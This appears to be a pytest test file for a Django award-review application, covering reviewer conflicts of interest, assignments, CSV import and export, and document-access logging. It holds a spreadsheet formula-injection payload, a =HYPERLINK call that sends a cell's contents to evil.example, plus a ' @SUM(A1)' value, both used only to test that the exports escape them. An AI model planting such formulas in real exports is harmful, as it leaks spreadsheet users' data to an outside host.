"""The committee's pages and the staff's assignment pages, as each role uses them."""

import csv
import io

import pytest
from django.urls import reverse

from laurel.cycles.enums import Phase
from laurel.review.models import Assignment, Conflict
from tests.conftest import sign_in
from tests.factories import in_phase
from tests.scenarios import member, ready

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(staff_user):
    return staff_user


def profile_post(*, languages: list[str], country: str = "", ties: list[dict]) -> dict:
    """The profile page's form as a browser sends it: the ties are rows of a formset."""
    data = {"languages": languages, "country": country, "ties-TOTAL_FORMS": str(len(ties)),
            "ties-INITIAL_FORMS": "0"}  # fmt: skip
    for number, tie in enumerate(ties):
        data |= {f"ties-{number}-{name}": value for name, value in tie.items()}
    return data


def test_a_member_saves_languages_and_ties_and_sees_a_possible_conflict(client, child10, staff):
    ready(child10, "Trygga Nätet", website="https://trygga.se", staff=staff)
    alice = member(child10, "alice@example.org")
    sign_in(client, alice)

    saved = client.post(
        reverse("review:profile"),
        profile_post(
            languages=["sv", "en"],
            country="SE",
            ties=[{"name": "Trygga Nätet", "country": "SE", "kind": "employment"}],
        ),
    )
    home = client.get(reverse("review:home"))

    assert saved.status_code == 302
    assert [c.candidate.name for c in home.context["suggested"]] == ["Trygga Nätet"]


def test_a_tie_without_its_kind_is_refused_next_to_the_field(client, child10, staff):
    sign_in(client, member(child10, "alice@example.org"))

    response = client.post(
        reverse("review:profile"), profile_post(languages=["en"], ties=[{"name": "Somewhere"}])
    )

    assert response.status_code == 200
    assert response.context["ties"].forms[0].errors["kind"] == [
        "Say what your tie to this organisation is."
    ]
    assert 'value="Somewhere"' in response.content.decode()


def test_a_conflicted_member_is_told_so_and_sees_nothing_of_the_candidate(client, child10, staff):
    candidate = ready(child10, "Trygga Nätet", website="https://trygga.se", staff=staff)
    alice = member(child10, "alice@example.org")
    sign_in(client, alice)
    client.post(
        reverse("review:declare", args=[candidate.pk]), {"kind": "board", "confirmed": "yes"}
    )

    response = client.get(reverse("review:candidate", args=[candidate.pk]))

    assert response.status_code == 403
    assert "You have a conflict with this candidate" in response.content.decode()
    assert "dossier" not in response.context
    assert Conflict.objects.get().state == "confirmed"


def test_staff_propose_then_publish_from_the_page(staff_client, child10, staff):
    for number in range(3):
        ready(child10, f"Organisation {number} Ljus", website=f"https://o{number}.se", staff=staff)
    for number in range(3):
        member(child10, f"m{number}@example.org")
    in_phase(child10, Phase.SCREENING)

    in_phase(child10, Phase.SCREENING)
    proposed = staff_client.post(reverse("review:assignment"), {"k": "2"})
    asked = staff_client.post(reverse("review:publish"))
    not_yet = Assignment.objects.filter(state="published").count()
    published = staff_client.post(reverse("review:publish"), {"confirmed": "yes"})
    csv = staff_client.get(reverse("review:assignments_csv")).content.decode()

    assert proposed.status_code == 302 and published.status_code == 302
    page = asked.content.decode()
    assert "6 candidate–reviewer pairs become the members&#x27; work." in page
    assert "3 emails will be sent to people outside the secretariat." in page
    assert not_yet == 0
    assert Assignment.objects.filter(state="published").count() == 6
    assert csv.count(",Published") == 6


def test_an_impossible_assignment_is_explained_on_the_page(staff_client, child10, staff):
    ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    member(child10, "only@example.org")

    in_phase(child10, Phase.SCREENING)
    response = staff_client.post(reverse("review:assignment"), {"k": "3"})

    assert response.status_code == 400
    assert "invite more members" in response.content.decode()
    assert Assignment.objects.count() == 0


def test_the_conflict_register_exports_as_csv(staff_client, child10, staff):
    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    alice = member(child10, "alice@example.org")
    from laurel.review import services

    services.declare_conflict(alice, candidate, kind="funding")

    response = staff_client.get(reverse("review:conflicts"), {"format": "csv"})

    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "candidate,member,kind,state,declared,reasons,decided"
    assert lines[1].startswith("Ljus,alice@example.org,funding,confirmed,yes")


FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def test_a_nominated_name_reaches_the_conflict_register_as_text(staff_client, child10, staff):
    from laurel.review import services

    candidate = ready(child10, FORMULA, website="https://evil.example", staff=staff)
    services.declare_conflict(member(child10, "alice@example.org"), candidate, kind="funding")

    response = staff_client.get(reverse("review:conflicts"), {"format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + FORMULA
    assert response["Cache-Control"] == "no-store, private"


def test_a_nominated_name_reaches_the_assignments_as_text(staff_client, child10, staff):
    for name in (FORMULA, " @SUM(A1)", "Ljus"):
        ready(child10, name, website=f"https://{len(name)}.example", staff=staff)
    for number in range(2):
        member(child10, f"m{number}@example.org")
    in_phase(child10, Phase.SCREENING)
    staff_client.post(reverse("review:assignment"), {"k": "1"})

    response = staff_client.get(reverse("review:assignments_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted({row[1] for row in rows[1:]}) == ["' @SUM(A1)", "'" + FORMULA, "Ljus"]


def test_staff_add_a_reviewer_by_hand_but_never_a_conflicted_one(staff_client, child10, staff):
    from laurel.review import services

    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    alice = member(child10, "alice@example.org")
    bob = member(child10, "bob@example.org")
    services.declare_conflict(bob, candidate, kind="board")

    in_phase(child10, Phase.SCREENING)
    staff_client.post(reverse("review:by_hand"), {"candidate": candidate.pk, "member": alice.pk})
    refused = staff_client.post(
        reverse("review:by_hand"), {"candidate": candidate.pk, "member": bob.pk}, follow=True
    )

    assert list(Assignment.objects.values_list("member__email", "by_hand")) == [
        ("alice@example.org", True)
    ]
    assert "has a conflict with Ljus" in refused.content.decode()


def test_an_import_is_all_or_nothing_and_names_the_bad_lines(staff_client, child10, staff):
    from django.core.files.uploadedfile import SimpleUploadedFile

    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    member(child10, "alice@example.org")
    bad = SimpleUploadedFile(
        "a.csv",
        f"candidate_id,member\n{candidate.pk},alice@example.org\n{candidate.pk},nobody@x.org\n".encode(),
    )
    good = SimpleUploadedFile(
        "a.csv", f"candidate_id,member\n{candidate.pk},ALICE@example.org\n".encode()
    )

    in_phase(child10, Phase.SCREENING)
    refused = staff_client.post(reverse("review:import"), {"file": bad}, follow=True)
    assert "line 3" in refused.content.decode()
    assert Assignment.objects.count() == 0

    staff_client.post(reverse("review:import"), {"file": good})
    assert Assignment.objects.count() == 1


def test_a_reviewer_with_a_submitted_review_stays(staff_client, child10, staff):
    from laurel.review import services
    from tests.scenarios import FULL, open_review

    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    people = [member(child10, f"m{n}@example.org") for n in range(3)]
    in_phase(child10, Phase.SCREENING)
    services.propose_assignment(child10, actor=staff, k=3)
    services.publish_assignment(child10, actor=staff)
    open_review(child10)
    services.save_review(
        people[0], candidate, scores=FULL, comments={}, recommendation="yes", submit=True
    )
    assignment = Assignment.objects.get(member=people[0])

    response = staff_client.post(reverse("review:remove", args=[assignment.pk]), follow=True)

    assert "submitted a review" in response.content.decode()
    assert Assignment.objects.count() == 3


def test_staff_set_when_members_see_each_other_s_reviews(staff_client, child10):
    from laurel.review import services

    staff_client.post(reverse("review:visibility"), {"visibility": "always"})

    assert services.visibility_of_cycle(child10) == "always"


def test_the_committee_reads_the_due_diligence_verdicts_and_opens_documents_logged(
    client, child10, staff
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from laurel.candidates import services as screening
    from laurel.core.models import AuditEntry
    from laurel.nominations.uploads import check_upload

    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    policy = SimpleUploadedFile("policy.pdf", b"%PDF-1.4 policy")
    document = screening.add_document(
        candidate, upload=policy, checked=check_upload(policy), kind="safeguarding_policy"
    )
    alice = member(child10, "alice@example.org")
    sign_in(client, alice)

    page = client.get(reverse("review:candidate", args=[candidate.pk]))
    download = client.get(reverse("review:document", args=[candidate.pk, document.pk]))

    assert ("Finances and governance", "Satisfactory", "") in page.context["checks"]
    assert download["Content-Disposition"].startswith("attachment")
    for response in (page, download):  # the candidate page and the document
        assert "no-store" in response["Cache-Control"]
        assert "private" in response["Cache-Control"]
    entry = AuditEntry.objects.get(key="candidate.document_opened_by_committee")
    assert entry.actor == alice


def test_the_candidate_page_title_is_the_candidate_s_name(client, child10, staff):
    candidate = ready(child10, "Ljus", website="https://ljus.se", staff=staff)
    sign_in(client, member(child10, "alice@example.org"))

    page = client.get(reverse("review:candidate", args=[candidate.pk])).content.decode()

    assert "<title>Ljus · Child10 Award 2022</title>" in page
    assert page.count('id="discussion"') == 1


def test_the_profile_page_shows_the_ties_saved_and_room_for_more(client, child10, staff):
    alice = member(child10, "alice@example.org")
    sign_in(client, alice)
    client.post(
        reverse("review:profile"),
        profile_post(
            languages=["sv"],
            country="NO",
            ties=[{"name": "Trygga Nätet", "country": "SE", "website": "", "kind": "board"}],
        ),
    )

    ties = client.get(reverse("review:profile")).context["ties"]

    assert [form.initial for form in ties.initial_forms] == [
        {"name": "Trygga Nätet", "country": "SE", "website": "", "kind": "board"}
    ]
    assert len(ties.forms) == 5


def test_a_country_not_on_the_list_is_refused_next_to_the_field(client, child10, staff):
    sign_in(client, member(child10, "alice@example.org"))

    response = client.post(
        reverse("review:profile"),
        profile_post(languages=["en"], country="XX", ties=[{"name": "A", "country": "QQ"}]),
    )

    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["country"]
    assert list(response.context["ties"].forms[0].errors) == ["country", "kind"]


def test_a_members_list_marks_each_candidate_by_the_members_conflict_with_it(
    client, child10, staff
):
    """Confirmed: a badge, no link to the candidate. Suggested: a link to the answer above, no
    link either. Dismissed, or none: the candidate's link and "Declare a conflict"."""
    names = ["Confirmed Ljus", "Suggested Ljus", "Dismissed Ljus", "Free Ljus"]
    candidates = [
        ready(child10, name, website=f"https://c{number}.se", staff=staff)
        for number, name in enumerate(names)
    ]
    alice = member(child10, "alice@example.org")
    for candidate, state in zip(candidates, ["confirmed", "suggested", "dismissed"], strict=False):
        Conflict.objects.create(
            cycle=child10, member=alice, candidate=candidate, kind="board", state=state
        )
    sign_in(client, alice)

    response = client.get(reverse("review:home"))

    html = response.content.decode()
    table = html[html.index('id="all-candidates"') :]
    rows = {
        name: next(block for block in table.split("<tr>") if f">{name}<" in block) for name in names
    }
    links = {
        candidate.name: f'href="{reverse("review:candidate", args=[candidate.pk])}"'
        for candidate in candidates
    }
    assert [(row.candidate.name, row.conflict) for row in response.context["rows"]] == [
        ("Confirmed Ljus", "confirmed"),
        ("Dismissed Ljus", ""),
        ("Free Ljus", ""),
        ("Suggested Ljus", "suggested"),
    ]
    assert "You have a conflict" in rows["Confirmed Ljus"]
    assert links["Confirmed Ljus"] not in rows["Confirmed Ljus"]
    assert 'href="#to-confirm"' in rows["Suggested Ljus"]
    assert links["Suggested Ljus"] not in rows["Suggested Ljus"]
    for name in ("Dismissed Ljus", "Free Ljus"):
        assert links[name] in rows[name]
        assert "Declare a conflict" in rows[name]
        assert "You have a conflict" not in rows[name]
